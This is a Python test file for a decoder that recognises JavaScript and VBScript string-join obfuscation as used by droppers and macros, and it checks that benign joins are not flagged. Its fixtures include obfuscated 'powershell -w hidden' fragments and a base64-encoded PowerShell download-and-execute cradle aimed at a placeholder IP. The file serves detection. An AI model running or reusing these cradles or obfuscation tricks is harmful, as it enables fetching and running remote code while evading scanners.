"""JavaScript and VBScript arrays of literals joined back into a word, and junk split out
of a literal (``"WXsXcript".split("X").join("")``, ``Join(Split("pow|ersh|ell", "|"), "")``):
what WSH droppers and macros write instead of the name. Traps: arrays joined for display
and dates re-separated, as ordinary code does."""

from __future__ import annotations

import pytest

from asisdk.decode import unpack

from .builders import layers


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ('var s = ["pow","ersh","ell"," -enc"].join("");', "powershell -enc"),
        ("new ActiveXObject(['WSc', 'ript.', 'Sh', 'ell'].join(''))", "WScript.Shell"),
        ('var u = ["http:", "", "198.51.100.7", "a.js"].join("/");', "http://198.51.100.7/a.js"),
        ('var c = ["cm", "d.e", "xe",].join("")', "cmd.exe"),
        ('var s = "pXowXershXell -nop".split("X").join("");', "powershell -nop"),
        ("o = 'WS!!cri!!pt.Sh!!ell'.split('!!').join('')", "WScript.Shell"),
        ('x = "powAAAershAAAell -w hidden".split("AAA").join("")', "powershell -w hidden"),
    ],
)
def test_joined_literals_are_layers(text: str, expected: str) -> None:
    assert ("js_join", expected) in layers(text)


@pytest.mark.parametrize(
    ("text", "encoding", "expected"),
    [
        ('x = Join(Split("pow|ersh|ell -nop", "|"), "")', "vba_replace", "powershell -nop"),
        ('o.Run Join(Split("WSXXcriXXpt.ShXXell", "XX"), "")', "vba_replace", "WScript.Shell"),
        ('CreateObject(Join(Array("WSc", "ript.Sh", "ell"), ""))', "vba_concat", "WScript.Shell"),
        ('s = join(array("pow", "ersh", "ell"), "") & " -w hidden"', "vba_concat", "powershell"),
    ],
)
def test_vb_joins_are_layers(text: str, encoding: str, expected: str) -> None:
    assert (encoding, expected) in layers(text)


@pytest.mark.parametrize(
    "text",
    [
        'MsgBox Join(Array("Hello", "world"), " ")',
        'd = Join(Split("2024-01-05", "-"), "/")',
        'cols = Join(Array("name", "size"), ",")',
    ],
)
def test_ordinary_vb_joins_stay_clean(text: str) -> None:
    assert [e for e, _ in layers(text) if e in ("vba_replace", "vba_concat")] == []


def test_a_joined_payload_is_decoded_further() -> None:
    import base64

    payload = base64.b64encode(
        b"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/c')"
    )
    b64 = payload.decode()
    third = len(b64) // 3
    pieces = [b64[:third], b64[third : 2 * third], b64[2 * third :]]
    text = "var e = [" + ", ".join(f'"{p}"' for p in pieces) + '].join("");'
    found = layers(text)
    assert found[0] == ("js_join", b64)
    assert any("DownloadString" in (t or "") for _, t in found)


@pytest.mark.parametrize(
    "text",
    [
        'console.log(["Hello", "world"].join(" "));',
        'var csv = ["name", "size", "date"].join(",");',
        'var p = "a/b/c".split("/").join("\\\\");',
        'label = ["First", "Second"].join(", ")',
        'var t = "2024-01-05".split("-").join("/");',
    ],
)
def test_ordinary_joins_stay_clean(text: str) -> None:
    assert [e for e, _ in layers(text) if e == "js_join"] == []


def test_a_long_array_is_read_in_one_pass() -> None:
    text = "[" + ",".join(['"a"'] * 5000) + "]" + ".join('')" + " x" * 1000
    assert unpack(text) is not None
    hostile = "[" + '"a",' * 200_000  # never closed
    assert [e for e, _ in layers(hostile) if e == "js_join"] == []
